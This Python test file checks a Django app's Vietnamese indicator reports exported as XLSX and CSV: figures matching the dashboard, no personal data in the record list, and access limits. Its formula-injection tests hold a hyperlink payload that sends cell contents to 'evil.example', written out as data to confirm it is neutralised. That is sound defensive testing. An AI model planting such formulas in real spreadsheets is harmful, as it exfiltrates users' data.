"""Exports read back: the XLSX figures equal the dashboard's; the CSV opens in Excel (BOM) with Vietnamese headers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from indicators.formatting import XLSX_INT_FORMAT, XLSX_PERCENT_FORMAT
from tests.scenario import build_world


@pytest.fixture
def world(db):
    return build_world()


def workbook(client, url):
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert response.streaming  # sent from a temporary file, in chunks: not built in memory
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))


def test_the_xlsx_summary_equals_the_dashboard(client, world):
    client.force_login(world.officer)
    page = client.get(f"/reports/u/{world.b.pk}/?period=2025").context["report"]
    wb = workbook(client, f"/reports/u/{world.b.pk}/export.xlsx?period=2025")
    assert wb.sheetnames == ["Tổng hợp", "Theo thôn", "Theo dịch vụ", "Theo tổ", "Tập huấn, tuyên truyền",
                             "Danh sách hồ sơ"]
    ws = wb["Tổng hợp"]
    assert ws["A3"].value == "Số người dân được hướng dẫn (người)" and ws["B3"].value == page.people == 7
    assert ws["A4"].value == "Số lượt hỗ trợ" and ws["B4"].value == page.visits == 10
    header = [c.value for c in ws[6]]
    assert header == ["TT", "Chỉ tiêu", "Mục tiêu", "Giá trị nền", "Tăng trong kỳ", "Kết quả đạt", "Mẫu số",
                      "Tỷ lệ đạt (%)", "Còn thiếu so với mục tiêu"]
    rows = list(ws.iter_rows(min_row=7, values_only=True))
    assert [(r[1], r[5], r[6], Decimal(str(r[7])), r[8]) for r in rows] == [
        (x.indicator.name, x.numerator, x.denominator, x.percent, x.remaining) for x in page.indicators]
    assert rows[0][2:] == ("≥ 50%", 150, 4, 154, 3120, 4.94, 1406)
    assert ws["F7"].number_format == XLSX_INT_FORMAT and ws["H7"].number_format == XLSX_PERCENT_FORMAT


def test_the_xlsx_breakdowns_equal_the_dashboard(client, world):
    client.force_login(world.officer)
    page = client.get(f"/reports/u/{world.b.pk}/?period=2025").context["report"]
    wb = workbook(client, f"/reports/u/{world.b.pk}/export.xlsx?period=2025")
    villages = list(wb["Theo thôn"].iter_rows(min_row=2, values_only=True))
    assert villages == [(1, "Thôn Bình 1", 5, 5), (2, "Thôn Bình 2", 3, 4), (3, "Thôn An 1", 1, 1)]
    assert [(r["unit"].full_name, r["people"], r["visits"]) for r in page.children] == [v[1:] for v in villages]
    services = {r[0]: r[1:] for r in wb["Theo dịch vụ"].iter_rows(min_row=2, values_only=True)}
    assert services == {"Kích hoạt VNeID": (4, 6), "Mở ví điện tử": (2, 2), "Gắn địa chỉ số": (2, 2)}
    teams = list(wb["Theo tổ"].iter_rows(min_row=2, values_only=True))
    assert teams == [("Tổ CNSCĐ Thôn An 1", 1, 1, 1), ("Tổ CNSCĐ Thôn Bình 1", 5, 5, 1), ("Tổ CNSCĐ Thôn Bình 2", 4, 3, 1)]


def test_the_record_list_has_no_personal_data(client, world):
    client.force_login(world.officer)
    wb = workbook(client, f"/reports/u/{world.b.pk}/export.xlsx?period=2025")
    ws = wb["Danh sách hồ sơ"]
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0] == ("Ngày", "Thôn", "Tổ", "Tổ viên", "Dịch vụ", "Kết quả", "Trạng thái", "Nơi hỗ trợ", "Mã hồ sơ")
    assert len(rows) == 1 + 11  # every record of 2025 in B and A's history, any status
    text = repr(rows)
    assert "Nguyễn Văn Dân" not in text and "Hộ Trần" not in text and "1981" not in text


def test_a_viewer_gets_the_roll_ups_without_the_record_list(client, world):
    client.force_login(world.viewer)
    wb = workbook(client, f"/reports/u/{world.province.pk}/export.xlsx?period=2024")
    assert "Danh sách hồ sơ" not in wb.sheetnames
    assert wb["Tổng hợp"]["B3"].value == 6
    assert client.get(f"/reports/u/{world.b.pk}/export.csv?period=2024&table=records").status_code == 403


def read_csv(client, url):
    response = client.get(url)
    assert response.status_code == 200 and response.streaming  # row by row, never the whole file in memory
    raw = b"".join(response.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def test_the_csv_opens_with_the_bom_and_vietnamese_headers(client, world):
    client.force_login(world.officer)
    rows = read_csv(client, f"/reports/u/{world.b.pk}/export.csv?period=2025&table=indicators")
    assert rows[0] == ["TT", "Chỉ tiêu", "Mục tiêu", "Giá trị nền", "Tăng trong kỳ", "Kết quả đạt", "Mẫu số",
                       "Tỷ lệ đạt (%)", "Còn thiếu so với mục tiêu"]
    assert rows[1][5:] == ["154", "3120", "4,94", "1406"]
    villages = read_csv(client, f"/reports/u/{world.b.pk}/export.csv?period=2025&table=villages")
    assert villages[0] == ["Hạng", "Đơn vị", "Số người (không trùng)", "Số lượt hỗ trợ"]


def test_the_csv_cannot_carry_a_formula(client, world):
    from reports.exports import csv_safe

    assert csv_safe('=HYPERLINK("http://x")') == "'=HYPERLINK(\"http://x\")"
    assert csv_safe("+1") == "'+1" and csv_safe("@SUM(A1)") == "'@SUM(A1)" and csv_safe(12) == "12"
    client.force_login(world.officer)
    rows = read_csv(client, f"/reports/u/{world.b.pk}/export.csv?period=2024&table=records")
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_the_xlsx_cannot_carry_a_formula(client, world):
    """A name typed as a formula arrives as the text it is, in the team sheet and in the record list."""
    from records.models import AssistanceRecord

    team = world.teams["b1"]
    team.name = EVIL
    team.save()
    member = AssistanceRecord.objects.filter(team=team).first().member
    member.first_name, member.last_name = "@SUM(1+1)", ""
    member.save()
    client.force_login(world.officer)
    wb = workbook(client, f"/reports/u/{world.b.pk}/export.xlsx?period=2025")
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    teams = [c for c in cells if c.parent.title == "Theo tổ" and c.value == EVIL]
    listed = [c for c in cells if c.parent.title == "Danh sách hồ sơ" and c.value == EVIL]
    assert len(teams) == 1 and len(listed) == 5  # Thôn Bình 1's five records of 2025, verbatim
    assert all(c.data_type == "s" and c.quotePrefix for c in teams + listed)
    assert [c for c in cells if c.value == "@SUM(1+1)" and c.data_type == "s"]


def test_the_xlsx_drops_characters_a_workbook_cannot_hold(client, world):
    team = world.teams["b1"]
    team.name = "Tổ\x01 Bình\x0b 1"
    team.save()
    client.force_login(world.officer)
    wb = workbook(client, f"/reports/u/{world.b.pk}/export.xlsx?period=2025")
    assert ("Tổ Bình 1", 5, 5, 1) in list(wb["Theo tổ"].iter_rows(min_row=2, values_only=True))
